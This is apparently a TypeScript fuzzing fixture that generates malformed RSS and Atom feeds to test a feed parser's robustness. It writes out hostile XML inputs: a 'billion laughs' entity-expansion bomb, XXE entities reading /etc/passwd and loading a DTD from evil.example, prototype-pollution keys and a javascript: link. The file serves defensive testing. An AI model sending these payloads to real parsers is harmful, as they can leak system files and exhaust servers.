import { repeated, type Shape } from '../shape.ts'

const ITEM = '<item><title>Harrow</title><description>Twelve people died.</description></item>'

const feed = (inner: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>Post</title>${inner}</channel></rss>`

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "lol">${repeated(9, (i) => `<!ENTITY a${i} "${`&a${i === 0 ? '' : i - 1};`.repeat(10)}">`)}]>`

const FEEDS: readonly ((count: number) => string)[] = [
  () => feed('<item><description>&a8;</description></item>', LAUGHS),
  () => feed('<item><description>&x;</description></item>', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  () => feed('<item><description>&x;</description></item>', '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">'),
  () => feed('<item><description>&x;</description></item>', '<!DOCTYPE r [<!ENTITY % p "<!ENTITY x \'%p;\'>">%p;]>'),
  (count) => feed(ITEM.repeat(Math.min(count, 900))),
  (count) => feed('<item><description>'.repeat(count)),
  (count) => feed(`<item ${repeated(count, (i) => `a${i}="1" `)}>`),
  (count) => feed(`<item><description>${'<![CDATA['.repeat(count)}`),
  (count) => feed(`<item><description>${'&lt;div&gt;'.repeat(count)}Twelve died.</description></item>`),
  (count) => feed(`<item><description><![CDATA[${'<div>'.repeat(count)}Twelve died.]]></description></item>`),
  (count) => feed(`<?${'a'.repeat(count)}`),
  (count) => feed(`<!--${'--'.repeat(count)}`),
  (count) => feed(`<item xmlns:${'a'.repeat(count)}="x"><a:b/></item>`),
  () =>
    feed(
      '<item><title>\u001b[31m&#0;&#x1b;&#xFFFF;</title><pubDate>99 Foo 9999</pubDate><description>Twelve died.</description></item>',
    ),
  () =>
    feed('<item><__proto__>x</__proto__><constructor>y</constructor><description>Twelve died.</description></item>'),
  () => feed('<item><link>javascript:alert(1)</link><description>Twelve died.</description></item>'),
  (count) => `<feed xmlns="http://www.w3.org/2005/Atom">${'<entry><content type="xhtml"><div>'.repeat(count)}`,
  () => `\ufeff<?xml version="1.0" encoding="utf-16"?><rss><channel>${ITEM}`,
  () => `<?xml version="1.1" encoding="ebcdic"?><rss><channel>${ITEM}</channel></rss>`,
]

/** Feeds of XML with bombs of entities, without ends, or with files of the machine. */
export const FEED_SHAPES: readonly Shape[] = [
  {
    name: 'feed',
    extensions: ['.xml', '.rss', '.atom'],
    make: (chance, index) => FEEDS[index % FEEDS.length]?.(chance.pick([3, 300, 3_000])) ?? '',
  },
  {
    name: 'large-feed',
    extensions: ['.rss', '.xml'],
    most: FEEDS.length,
    make: (_, index) => FEEDS[index % FEEDS.length]?.(30_000) ?? '',
  },
]
